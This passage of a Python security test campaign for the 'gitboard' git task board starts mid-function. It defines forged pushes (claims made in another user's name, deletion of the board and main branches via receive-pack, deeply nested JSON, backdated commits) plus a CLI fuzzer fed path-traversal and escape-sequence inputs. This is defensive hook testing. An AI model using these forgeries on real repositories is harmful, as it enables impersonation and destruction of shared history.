    ch, tip, _ = f.change(task_ops.claim, actor="mallory", task_id=3, lease=600.0)
    commit = f.commit(tip, dict(ch.writes), _msg(ch))
    f.push(commit)
    return f.landed(commit)


def control_claim_as_alice(f: Forge) -> bool:
    """Must be refused by today's hook: mallory claims a free task in alice's name."""
    from gitboard.board import task_ops

    ch, tip, _ = f.change(task_ops.claim, actor="alice", task_id=3, lease=600.0)
    commit = f.commit(tip, dict(ch.writes), _msg(ch))
    f.push(commit)
    return f.landed(commit)


@dataclass(frozen=True)
class Forgery:
    """One forged push: ``probe(forge) -> True if the forgery landed`` (a violation); ``rule`` names
    the family of rules that must refuse it."""

    name: str
    rule: str
    probe: Callable[[Forge], bool]
    hooked: bool = True


#: The forged pushes, as data. Every probe returns True when the forgery was accepted.
FORGERIES: tuple[Forgery, ...] = (
    Forgery("send + unknown key (1 MB) in a task file", "canonical bytes", unknown_key),
    Forgery("send + unknown key (1 KB) in a task file", "canonical bytes", unknown_key_small),
    Forgery("send + task file re-encoded as UTF-16", "canonical bytes", utf16),
    Forgery("send + task file without indentation", "canonical bytes", no_indent),
    Forgery("lead's update: a subject of two lines", "board files within limits", two_line_subject),
    Forgery("lead's update: a 300 KB description", "board files within limits", big_description),
    Forgery("lead's update: JSON nested 100,000 deep in a task file", "board files within limits", deep_json),
    Forgery("tree entry named 00/task_5.json (written --literally)", "trees as fsck has them", bad_tree),
    Forgery("takeover of a live 60 s lease one second later", "leases favour the holder", lease_skew),
    Forgery("claim dated two hours ahead onto a live lease (verify)", "commit dates", future_claim, hooked=False),
    Forgery("commit dated before its parent (verify)", "commit dates", dates_out_of_order, hooked=False),
    Forgery("lead's merge of an unapproved task naming no real commit", "merge records tied to the base", merge_unapproved),
    Forgery("non-lead sets another task's run command", "who may run code", run_by_non_lead),
    Forgery("non-lead imports 500 tasks with run commands", "who may run code", import_runs),
    Forgery("receive-pack 0000 0000 refs/heads/gitboard (delete the board)", "every declared old value judged", delete_board_zero_old),
    Forgery("receive-pack 0000 0000 refs/heads/main (delete the protected base)", "every declared old value judged", delete_base_zero_old),
    Forgery("receive-pack <off-history send> <claim in alice's name> refs/heads/gitboard", "every declared old value judged", claim_off_history),
    Forgery("X->Y then Y->Z with Z a claim in alice's name, raced on the ref lock", "every declared old value judged", stale_old_race),
)


def forgeries(root: Path, rep: Report, *, rounds: int = 1) -> None:
    """Part 2 (see the module docstring): ``rounds`` rounds, each the two controls and then every
    case of :data:`FORGERIES`, each on a fresh copy of one forge set up once."""
    template = Forge(root / "template")
    landed = [0] * len(FORGERIES)
    errors = [0] * len(FORGERIES)
    first_error: list[str] = [""] * len(FORGERIES)
    controls_failed = 0
    for r in range(1, rounds + 1):
        here = root / f"round-{r}"
        if not control_legal_claim(template.copy(here / "control-legal")):
            controls_failed += 1
            rep.bad(f"forgery: round {r}: the control (mallory's legal claim) was refused: the probes prove nothing")
        if control_claim_as_alice(template.copy(here / "control-identity")):
            controls_failed += 1
            rep.bad(f"forgery: round {r}: the control (mallory's claim in alice's name) landed: the hook does not run")
        for i, case in enumerate(FORGERIES):
            try:
                landed[i] += bool(case.probe(template.copy(here / f"case-{i}", hooked=case.hooked)))
            except Exception as e:  # a probe that cannot run is reported, not counted as refused
                errors[i] += 1
                first_error[i] = first_error[i] or f"probe error: {type(e).__name__}: {str(e)[:200]}"
        shutil.rmtree(here, ignore_errors=True)
    for i, case in enumerate(FORGERIES):
        outcome = "ACCEPTED" if landed[i] else first_error[i] or "refused"
        rep.forgeries.append({"case": case.name, "rule": case.rule, "outcome": outcome, "rounds": rounds,
                              "landed": landed[i], "errors": errors[i]})
        if landed[i] or errors[i]:
            rep.bad(f"forgery ({case.rule}): {case.name}: landed in {landed[i]} of {rounds} round(s)"
                    + (f", {errors[i]} probe error(s), first: {first_error[i]}" if errors[i] else ""))
    pushes = len(FORGERIES) * rounds
    rep.figures["forgeries"] = {"cases": len(FORGERIES), "rounds": rounds, "pushes": pushes,
                                "accepted": sum(landed), "probe_errors": sum(errors),
                                "refused": pushes - sum(landed) - sum(errors), "controls_failed": controls_failed}


# -- 3. fuzzed command lines -------------------------------------------------------------------

#: Commands that run until stopped (or need a terminal, a model): fuzzed only with --help.
LONG_RUNNING = {"work", "spawn", "lead", "watch", "demo", "mcp", "web", "serve", "hook-impl", "hook-server"}
#: Exit codes the README documents.
DOCUMENTED = {0, 1, 2, 3, 4, 130}

WEIRD = ["", "-", "--", "0", "-1", "1", "2", "99999999999999999999", "1e309", "nan", "abc", "a b", "🙂", "\x1b[2J",
         "é" * 300, "-x", "--nope", "../..", "/", "task/1", "HEAD", "gitboard", ".", "\\", "[bold]", "%s", "{}", "[]",
         "null", "true", "@", "a" * 5000, "lead", "alice", "-5", "0.0001", "3", "--json"]


def _commands() -> list[tuple[list[str], list[Any]]]:
    """Every leaf command of the CLI as (path, click parameters)."""
    import typer

    from gitboard.cli.main import app

    root = typer.main.get_command(app)
    out = []

    def walk(cmd: Any, path: list[str]) -> None:
        subs = getattr(cmd, "commands", None)
        if subs:
            for name, sub in subs.items():
                walk(sub, path + [name])
        else:
            out.append((path, list(cmd.params)))

    walk(root, [])
    return out


def _argv(rng: random.Random, commands: list[tuple[list[str], list[Any]]]) -> list[str]:
    path, params = rng.choice(commands)
    if path and path[0] in LONG_RUNNING:
        return path + [rng.choice(["--help", "--nope", "--help"])]
    # options that make a command run until stopped (merge/notify --follow, logs -f, stop --wait)
    params = [p for p in params if not any(o in ("--follow", "-f", "--wait") for o in getattr(p, "opts", []))]
    argv = list(path)
    for p in rng.sample(params, k=min(len(params), rng.randint(0, 4))):
        opts = getattr(p, "opts", [])
        value = rng.choice(WEIRD) if rng.random() < 0.6 else str(rng.randint(-2, 12))
        if getattr(p, "param_type_name", "") == "argument":
            argv.append(value)
        elif getattr(p, "is_flag", False):
            argv.append(rng.choice(opts))
        elif opts:
            argv += [rng.choice(opts), value]
    if rng.random() < 0.15:
        argv.insert(rng.randint(0, len(argv)), rng.choice(WEIRD))
    if rng.random() < 0.2 and "--json" not in argv:
        argv.append("--json")
    return argv


def _run_forked(cwd: Path, argv: list[str], timeout: float) -> tuple[int | None, str]:
    """``main(argv)`` in a forked child (stdin empty), as the console script runs it: (exit, stderr)."""
    from gitboard.cli.main import main

    err = tempfile.TemporaryFile()
    out = open(os.devnull, "wb")
    pid = os.fork()
    if pid == 0:  # the child
        try:
            os.setsid()
            os.chdir(cwd)
            fd = os.open(os.devnull, os.O_RDONLY)
            os.dup2(fd, 0)
            os.dup2(out.fileno(), 1)
            os.dup2(err.fileno(), 2)
            sys.stdin = open(0, closefd=False)
            sys.stdout = open(1, "w", closefd=False)
            sys.stderr = open(2, "w", closefd=False)
            main(argv)
        except SystemExit as e:
            code = e.code if isinstance(e.code, int) else (0 if e.code is None else 1)
            sys.stdout.flush()
            sys.stderr.flush()
            os._exit(code)
        except BaseException:
            import traceback

            traceback.print_exc()
            sys.stderr.flush()
            os._exit(99)
        os._exit(0)
    deadline = time.monotonic() + timeout
    status = None
    while time.monotonic() < deadline:
        done, st = os.waitpid(pid, os.WNOHANG)
        if done:
            status = os.waitstatus_to_exitcode(st)
            break
        time.sleep(0.005)
    if status is None:
        try:
            os.killpg(pid, signal.SIGKILL)
        except OSError:
            pass
        os.waitpid(pid, 0)
    err.seek(0)
    text = err.read().decode(errors="replace")
    err.close()
    out.close()
    return status, text


def fuzz(root: Path, rep: Report, *, count: int, rng: random.Random) -> None:
    project = root / "fuzz"
    git(root, "init", "-q", "-b", "main", str(project))
    (project / "README").write_text("fuzz\n")
    git(project, "add", "-A")
    git(project, "commit", "-q", "-m", "start")
    gb(project, "init")
    gb(project, "task", "import", "-", input="".join(json.dumps({"subject": f"t{i}", **({"blockedBy": [i - 1]} if i > 1 else {})}) + "\n" for i in range(1, 6)).encode())
    gb(project, "team", "add", "alice")
    gb(project, "task", "claim", "1", "--as", "alice")
    commands = _commands()
    failures = bad = 0
    codes: dict[int, int] = {}
    for k in range(count):
        argv = _argv(rng, commands)
        if k % 20 == 0:  # the console script itself
            try:
                p = subprocess.run([EXE, *argv], cwd=project, capture_output=True, timeout=30, stdin=subprocess.DEVNULL)
                status, err = p.returncode, p.stderr.decode(errors="replace")
            except subprocess.TimeoutExpired:
                status, err = None, ""
        else:
            status, err = _run_forked(project, argv, 30)
        codes[status if status is not None else -1] = codes.get(status if status is not None else -1, 0) + 1
        problem = ""
        if status is None:
            problem = "hung (killed after 30 s)"
        elif "Traceback" in err:
            problem = "traceback"
        elif status not in DOCUMENTED:
            problem = f"undocumented exit {status}"
        elif "internal error" in err:
            problem = "internal error"
        elif status not in (0, 130):
            failures += 1
            lines = [ln for ln in err.splitlines() if ln.strip()]
            errors = [ln for ln in lines if ln.startswith("gitboard: error: ")]
            if not lines or not lines[-1].startswith("gitboard: ") or len(errors) > 1:
                problem = f"exit {status} without one 'gitboard: error:' line: {err[-200:]!r}"
        if problem:
            bad += 1
            shown = " ".join(a if re.fullmatch(r"[-\w./]+", a) else repr(a) for a in argv)
            rep.bad(f"fuzz: gitboard {shown[:300]}: {problem}")
    rep.figures["fuzz"] = {"command_lines": count, "failures": failures, "bad": bad,
                           "exit_codes": {str(k): v for k, v in sorted(codes.items())}}


# -- main --------------------------------------------------------------------------------------

def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--quick", action="store_true", help="about a minute: fewer tasks, kills and command lines")
    ap.add_argument("--seed", type=int, default=None, help="random seed (default: from the clock; printed)")
    ap.add_argument("--json", action="store_true", help="print the figures as one JSON document")
    ap.add_argument("--only", choices=("faults", "forgeries", "fuzz"), action="append", help="run only these parts")
    ap.add_argument("--forgeries-only", action="store_true", help="run only the forged pushes (--only forgeries)")
    ap.add_argument("--rounds", type=int, default=1, metavar="N",
                    help="rounds of the forged pushes, each on fresh copies (default 1)")
    args = ap.parse_args()
    if args.rounds < 1:
        ap.error("--rounds must be at least 1")
    if args.forgeries_only:
        if set(args.only or ("forgeries",)) != {"forgeries"}:
            ap.error("--forgeries-only runs the forged pushes alone: drop --only")
        args.only = ["forgeries"]
    seed = args.seed if args.seed is not None else int(time.time())
    rng = random.Random(seed)
    parts = set(args.only or ("faults", "forgeries", "fuzz"))
    rep = Report()
    rep.figures["seed"] = seed
    rep.figures["mode"] = "quick" if args.quick else "default"
    started = time.monotonic()
    root = Path(tempfile.mkdtemp(prefix="gitboard-campaign-"))
    state = root / "state"
    os.environ.update({"XDG_STATE_HOME": str(state), "GIT_CONFIG_NOSYSTEM": "1",
                       "GIT_CONFIG_GLOBAL": str(root / "gitconfig")})
    (root / "gitconfig").write_text("")
    for var in [v for v in os.environ if v.startswith(("GITBOARD_", "GIT_DIR", "GIT_WORK_TREE"))]:
        del os.environ[var]
    def timed(part: str, run: Callable[[], None]) -> None:
        t0 = time.monotonic()
        run()
        rep.figures[part]["seconds"] = round(time.monotonic() - t0, 1)

    try:
        if "forgeries" in parts:
            timed("forgeries", lambda: forgeries(root / "forge", rep, rounds=args.rounds))
        if "fuzz" in parts:
            timed("fuzz", lambda: fuzz(root, rep, count=100 if args.quick else 800, rng=rng))
        if "faults" in parts:
            (root / "faults").mkdir()
            timed("faults", lambda: faults(root / "faults", rep, tasks=6 if args.quick else 24,
                                           seconds=15 if args.quick else 120, settle=90 if args.quick else 240,
                                           rng=rng))
    finally:
        shutil.rmtree(root, ignore_errors=True)
    rep.figures["seconds"] = round(time.monotonic() - started, 1)
    rep.figures["violations"] = len(rep.violations)
    if args.json:
        print(json.dumps({"figures": rep.figures, "forgeries": rep.forgeries, "violations": rep.violations}, indent=2))
    else:
        print(f"gitboard campaign ({rep.figures['mode']}, seed {seed}, {rep.figures['seconds']} s)")
        for part, figs in rep.figures.items():
            if isinstance(figs, dict):
                print(f"  {part}: " + ", ".join(f"{k} {v}" for k, v in figs.items()))
        if rep.forgeries:
            print("  forged pushes:")
            for f in rep.forgeries:
                tag = f["outcome"] if f["outcome"] in ("ACCEPTED", "refused") else "ERROR"
                errs = f", {f['errors']} probe error(s)" if f["errors"] else ""
                print(f"    [{tag}] {f['rule']}: {f['case']} (tried {f['rounds']}, landed {f['landed']}{errs})")
        print(f"  violations: {len(rep.violations)}")
        for v in rep.violations:
            print(f"    - {v}")
    return 1 if rep.violations else 0


if __name__ == "__main__":
    sys.exit(main())
